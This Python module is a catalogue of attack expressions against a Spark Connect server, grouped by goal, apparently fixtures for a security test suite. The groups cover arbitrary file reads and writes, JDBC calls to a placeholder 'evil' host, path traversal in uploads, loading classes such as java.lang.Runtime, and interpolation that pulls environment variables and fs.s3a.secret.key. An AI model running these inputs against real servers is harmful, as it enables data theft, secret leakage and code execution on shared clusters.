"""What a client of Connect tries besides SQL, for :mod:`support.attacks`."""

from __future__ import annotations

from collections.abc import Mapping, Sequence

CONNECT: Mapping[str, Sequence[str]] = {
    "take a connection apart, or use another user's": [
        "spark.read.format('jdbc').options(**shop, dbtable='a', url='{evil}').load().schema",
        "spark.read.options(**shop).jdbc('{evil}', 'sysibm.sysdummy1').schema",
        "spark.read.format('jdbc').options(**shop, dbtable='a', PASSWORD='mine').load().schema",
        "spark.read.format('text').options(**shop).load('{lake}').collect()",
        "spark.read.format('jdbc').options(**shop, dbtable='a', socketFactory='com.acme.Own').load().schema",
        "spark.range(1).write.format('jdbc').options(**shop, dbtable='a', driver='com.acme.Own').save()",
        "spark.range(1).write.format('console').options(**shop).mode('append').save()",
        "spark.range(1).write.options(**shop).jdbc('{evil}', 'a')",
        "spark.range(1).write.format('jdbc').options(**look, dbtable='own_looked').save()",
        "spark.range(1).selectExpr('string(id) IBMREQD').write.insertInto('connected')",
        "spark.read.format('jdbc').options(**hidden, dbtable='sysibm.sysdummy1').load().collect()",
        "spark.catalog.createTable('peek', source='jdbc', dbtable='sysibm.sysdummy1', **hidden)",
        "spark.readStream.format('rate').options(**shop).load().schema",
    ],
    "write where one may only read": [
        "spark.read.format('jdbc').options(**look, query='DELETE FROM a').load().schema",
        "spark.read.format('jdbc').options(**look, dbtable='(VALUES 1) a').load().schema",
        "spark.read.format('jdbc').options(**look, dbtable='sysibm.sysdummy1', HINT='/*+ a */').load().schema",
        "spark.read.option('query', 'VALUES 1').table('connected').schema",
        "spark.catalog.createTable('peek', source='jdbc', query='VALUES 1', **look)",
    ],
    "guess a server's conf": [
        "spark.conf.set('spark.acme.region', 'eu-west')",
        "spark.conf.set('spark.acme.wait', '300 s')",
        "spark.conf.set('spark.config.connections.hidden.format', 'jdbc')",
        "spark.conf.set('spark.sql.catalog.hidden_catalog.sparkconfig.connection', 'hidden')",
        "spark.read.option('fs.s3a.acme.region', 'eu-west').csv('{lake}/footer').schema",
    ],
    "run a database inside the server": [
        "spark.read.jdbc('jdbc:derby:memory:mine;create=true', 'sysibm.sysdummy1').collect()",
        "spark.read.format('jdbc').options(url='jdbc:derby:memory:mine;create=true', dbtable='a').load().schema",
        "spark.read.format('jdbc').options(URL='jdbc:derby:{folder}/mine;create=true', query='VALUES 1').load().schema",
        "spark.range(1).write.jdbc('jdbc:derby:memory:mine;create=true', 'a')",
        "spark.range(1).write.format('jdbc').options(url='jdbc:derby:memory:mine', dbtable='a').save()",
        "spark.read.jdbc('jdbc:hive2://evil.example/x', 'a').schema",
    ],
    "have Spark make the relation by itself": [
        "spark.read.jdbc('{evil}', 'sysibm.sysdummy1', predicates=['1 = 1']).collect()",
        "spark.read.jdbc('jdbc:derby:memory:mine;create=true', 'a', predicates=['1=1', '2=2']).schema",
        "spark.read.options(**shop).jdbc('{evil}', 'a', predicates=['1 = 1']).schema",
        "spark.read.jdbc('{evil}', '(VALUES 1) t', predicates=['SYSCS_UTIL.X() = 1']).count()",
        "spark.range(1).join(spark.read.jdbc('{evil}', 'a', predicates=['1 = 1'])).count()",
    ],
    "have SQL evaluated by the metadata of a schema": [
        "spark.range(1).select(F.from_json(F.lit('{{}}'), DEFAULT)).collect()",
        "spark.range(1).select(F.from_csv(F.lit(''), F.lit(DEFAULT.json()))).collect()",
        "spark.read.schema(DEFAULT).json('{lake}/footer').collect()",
        "spark.read.schema(DEFAULT).parquet('{lake}/footer').collect()",
        "spark.readStream.schema(DEFAULT).parquet('{lake}/footer').isStreaming",
        "spark.read.parquet('{lake}/footer').collect()",
        "spark.range(1).select(F.lit('a').alias('a', metadata=DEFAULT['a'].metadata)).to(DEFAULT).collect()",
        "spark.createDataFrame([('x',)], DEFAULT).collect()",
        "spark.catalog.createTable('peek', source='parquet', schema=DEFAULT)",
        "spark.range(1).selectExpr('id', 'string(id) a').write.insertInto('footed')",
    ],
    "read through a link in the lake": [
        "spark.read.text('{lake}/linked').collect()",
        "spark.read.csv('{lake}/linked').schema",
        "spark.read.option('recursiveFileLookup', True).text('{lake}/linked_days').collect()",
        "spark.read.text('{lake}/linked_days').count()",
        "spark.read.json('{lake}/link*').schema",
        "spark.range(1).select(F.lit('a').alias('value')).write.mode('append').text('{lake}/linked_days/day=a')",
    ],
    "read a file by an option of texts that are parsed": [
        "parse({{'rowValidationXSDPath': '{bait}'}})",
        "parse({{'rowValidationXSDPath': '{bait}'}}, 'b')",
        "parse({{'ROWVALIDATIONXSDPATH': 'file:{bait}', 'mode': 'FAILFAST'}})",
        "parse({{'rowValidationXSDPath': 'http://127.0.0.1:1/a.xsd'}})",
        "parse({{'rowValidationXSDPath': '{lake}/../bait.txt'}}, 'b')",
    ],
    "hide a type in rows that are sent ahead": [
        "ahead(UDT)",
        "ahead(' ' + UDT)",
        "ahead(UDT, alone=True)",
        "ahead(DEFAULT.json())",
        "ahead(DEFAULT.json(), alone=True)",
        "ahead(UDT.replace('udt', '\\\\u0075dt'))",
    ],
    "lead out of sent rows": [
        "outside('string', -4096, 77)",
        "outside('string', 0, 99999)",
        "outside('large_string', 1 << 40, 1 << 41)",
        "outside('binary', -1, 77)",
        "outside('list', -1, 77)",
        "outside('list', 0, 99999)",
        "outside('struct', -8, 77)",
        "outside('map', 0, 99999)",
        "outside('string', 0, 99999, 'ahead')",
        "outside('large_binary', -8, 77, 'chunk')",
    ],
    "have a class loaded by a checkpoint": [
        f"resumed('spark.sql.streaming.stateStore.{key}', '{name}')"
        for key in ("providerClass", "compression.codec")
        for name in ("com.acme.Own", "java.lang.Runtime", "org.apache.spark.SparkContext")
    ],
    "send rows under a name that other rows have": [
        "upload('cache/' + 'a' * 64, b'rows')",
        "upload('cache/{{digest}}0', b'rows')",
        "upload('cache/a', b'')",
        "upload('cache/' + 'a' * 64, b'ro', b'ws')",
        "upload('cache/{{digest}}', b'rows') or upload('cache/A', b'r', b'o', b'ws')",
        "upload('cache/../jars/a.jar', b'rows')",
    ],
    "send fields that this Spark does not know": [
        f"unknown('{kind}')" for kind in ("Plan", "Relation", "Range", "Expression")
    ],
    "send a listener of the server's": [
        "listener(b'\\xac\\xed\\x00\\x05')",
        "listener(b'')",
        "listener(b'x' * 100000)",
        "listener(b'\\x80\\x04')",
        "listener(b'\\x00')",
    ],
    "read a file": [
        "spark.read.text('{bait}').collect()",
        "spark.read.load('{bait}', format='text').collect()",
        "spark.read.text(['{lake}/orders', '{bait}']).collect()",
        "spark.read.option('path', 'file:{bait}').format('text').load().collect()",
        "spark.read.csv('FILE:{bait}').collect()",
        "spark.read.json('/proc/self/root{bait}').collect()",
        "spark.read.format('binaryFile').load('{lake}/../bait.txt').collect()",
        "spark.read.table('text.`{bait}`').collect()",
        "spark.table('text.`{lake}/link.txt`').collect()",
        "spark.readStream.text('{folder}').isStreaming",
        "spark.read.format('org.apache.spark.sql.execution.datasources.text.TextFileFormat').load('{lake}').collect()",
        "spark.catalog.createTable('peek', '{bait}', 'text')",
        "spark.catalog.createTable('peek', 'file:{bait}', source='csv')",
        "spark.catalog.refreshByPath('{bait}')",
        "spark.read.option('rowTag', 'a').option('rowValidationXSDPath', '{bait}').xml('{lake}').collect()",
    ],
    "write to the server's disk": [
        "spark.range(1).write.csv('{folder}/out')",
        "spark.range(1).write.save('file:{folder}/out')",
        "spark.range(1).write.format('json').save('FILE:{folder}/out')",
        "spark.range(1).write.option('path', '{folder}/out').saveAsTable('peek')",
        "spark.range(1).write.parquet('{lake}/../out')",
        "spark.range(1).write.orc('{lake}/away/out')",
        "spark.range(1).writeTo('peek').using('com.acme.Own').create()",
        "spark.range(1).write.format('com.acme.Own').save()",
        "rate.writeStream.format('parquet').option('checkpointLocation', '{folder}/c').start('{folder}/out')",
        "rate.writeStream.format('memory').queryName('peek').option('checkpointLocation', '{folder}/c').start()",
    ],
    "have a stream trust files that users write": [
        "rate.writeStream.format('memory').queryName('peek').option('checkpointLocation', '{lake}/c').start()",
        "rows.writeStream.format('csv').option('CheckpointLocation', 'file:{lake}/c').start('{lake}/own_files')",
        "rows.writeStream.option('checkpointLocation', '{folder}/state/../lake/c').toTable('peek')",
        "rows.writeStream.format('csv').options(checkpointLocation='/proc/self/root{lake}/c').start('{lake}/peek')",
        (
            "rows.groupBy('id').count().writeStream.format('memory').queryName('peek').outputMode('complete')"
            ".option('checkpointLocation', '{lake}/linked').start()"
        ),
        "spark.range(1).write.csv('{folder}/state/c/state/0/0')",
        "spark.read.text('{folder}/state').collect()",
    ],
    "run Python on the server": [
        "spark.range(1).select(F.udf(lambda a: a)('id')).collect()",
        "spark.range(1).filter(F.udf(lambda a: True, T.BooleanType())('id')).collect()",
        "spark.udf.register('peek', lambda a: a)",
        "spark.range(1).mapInPandas(lambda rows: rows, 'id long').collect()",
        "spark.range(1).mapInArrow(lambda rows: rows, 'id long').collect()",
        "spark.range(1).groupBy('id').applyInPandas(lambda rows: rows, 'id long').collect()",
        "(r := spark.range(1).groupBy('id')).cogroup(r).applyInPandas(lambda a, b: a, 'id long').collect()",
        "spark.range(1).mapInArrow(lambda rows: rows, 'id long', barrier=True).collect()",
        "F.udtf(Rows, returnType='a int')().collect()",
        "spark.udtf.register('peek', F.udtf(Rows, returnType='a int'))",
        "spark.dataSource.register(Source)",
        "rate.writeStream.foreachBatch(lambda rows, number: None).start()",
        "rate.writeStream.foreach(print).start()",
        "spark.range(1).groupBy('id').applyInArrow(lambda rows: rows, 'id long').collect()",
    ],
    "bring code and classes": [
        "spark.addArtifact('{folder}/code.py', pyfile=True)",
        "spark.addArtifacts('{folder}/code.zip', archive=True)",
        "spark.addArtifact('{folder}/bait.txt', file=True)",
        "spark.addArtifact('{folder}/code.jar')",
        "spark.addArtifacts('{folder}/code.jar', '{folder}/code.jar')",
        "spark.copyFromLocalToFs('{bait}', '{folder}/copied')",
        "spark.udf.registerJavaFunction('peek', 'java.lang.Runtime')",
        "spark.udf.registerJavaFunction('peek', 'com.acme.Own', 'string')",
        "spark.udf.registerJavaUDAF('peek', 'com.acme.Own')",
        "spark.read.schema(UDT).csv('{lake}').collect()",
    ],
    "call a class, or read the environment": [
        "spark.range(1).select(F.reflect(F.lit('java.lang.System'), F.lit('getenv'), F.lit('HOME'))).collect()",
        "spark.range(1).select(F.java_method(F.lit('java.lang.System'), F.lit('getenv'), F.lit('HOME'))).collect()",
        "spark.range(1).select(F.call_function('reflect', F.lit('java.lang.Math'), F.lit('abs'), F.lit(1))).collect()",
        'spark.range(1).selectExpr("\'$" + "{{env:HOME}}\'").collect()',
        'spark.range(1).select(F.expr("\'$" + "{{system:user.home}}\'")).collect()',
        "spark.range(1).filter(\"'$\" + \"{{env:HOME}}' > 'a'\").collect()",
        'spark.sql("SELECT \'$" + "{{env:HOME}}\', :a", args=dict(a=1)).collect()',
        "spark.sql('EXECUTE IMMEDIATE \"ADD JAR \\'{bait}\\'\"').collect()",
        "spark.sql('BEGIN SELECT * FROM text.`{bait}`; END').collect()",
        "spark.conf.set('spark.sql.adaptive.customCostEvaluatorClass', 'com.acme.Own')",
        # Hadoop puts these in where options of files become its settings.
        "spark.read.option('nullValue', '$' + '{{env.HOME}}').csv('{lake}').collect()",
        "spark.range(3).write.option('parquet.block.size', '$' + '{{user.home}}').parquet('{lake}/peek')",
        "spark.range(3).write.option('maxRecordsPerFile', '$' + '{{fs.s3a.secret.key}}').parquet('{lake}/peek')",
        "spark.readStream.option('sep', '$' + '{{env.HOME}}').schema('a string').csv('{lake}').isStreaming",
        (
            "rate.writeStream.format('csv').options(sep='$' + '{{x}}', checkpointLocation='{folder}/state/c')"
            ".start('{lake}')"
        ),
        "spark.range(3).write.option('compression', 'java.lang.Runtime').text('{lake}/peek')",
        "spark.read.option('io.compression.codecs', 'com.acme.Own').text('{lake}').collect()",
    ],
}
"""What a client of Connect tries besides, as Python expressions."""

#: What a log of a sink names is read by none of these.
CONNECT_LOGS: Sequence[str] = (
    "spark.read.csv('{lake}/logged', header=True, recursiveFileLookup=True).join(spark.range(1), 'a').schema",
    "spark.read.option('recursiveFileLookup', True).json('{lake}/logged').schema",
    "spark.read.load('file:{lake}/logged/', format='csv', header=True, recursiveFileLookup=True).schema",
    "spark.readStream.schema('a string').option('recursiveFileLookup', True).text('{lake}/logged').isStreaming",
    "spark.catalog.createTable('peek', '{lake}/logged', source='csv', header='true', recursiveFileLookup='true')",
)
